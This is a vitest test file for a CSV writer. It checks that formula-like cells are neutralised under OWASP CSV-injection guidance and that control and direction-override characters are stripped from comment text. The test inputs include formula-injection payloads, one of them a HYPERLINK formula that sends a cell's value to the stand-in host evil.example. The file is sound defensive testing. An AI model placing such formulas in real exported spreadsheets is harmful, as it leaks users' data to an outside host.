import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { commentText, writeCsv } from './write-csv.ts';

// The rule is OWASP's "CSV injection" guidance (cells starting = + - @ tab CR are prefixed with a
// single quote), which papaparse implements as `escapeFormulae`.
describe('writeCsv', () => {
  it.each(['=1+1', '+1', '-1+2', '@SUM(A1)', '\tcmd', '\rcmd', '=HYPERLINK("http://evil.example/?"&A1,"click")'])(
    'neutralises the text cell %j',
    (cell) => {
      const csv = writeCsv([['label', cell]]);
      const parsed = Papa.parse<string[]>(csv).data[0];
      expect(parsed[1]).toBe(`'${cell}`);
    },
  );

  it('keeps numbers numeric, negative ones included', () => {
    expect(writeCsv([[-0.5, 12, 0]])).toBe('-0.5,12,0');
  });

  it('keeps ordinary text as it is and quotes a line break inside a cell', () => {
    const csv = writeCsv([['Pipit front\n=cmd', 'plain']], ['name', 'other']);
    const rows = Papa.parse<string[]>(csv).data;
    expect(rows).toHaveLength(2);
    expect(rows[1]).toEqual(['Pipit front\n=cmd', 'plain']);
  });
});

describe('commentText', () => {
  it('turns line breaks, controls and direction overrides into spaces', () => {
    expect(commentText('a\nb\r\n=c\u202Ed\u2066e\u0007')).toBe('a b  =c d e ');
  });
});
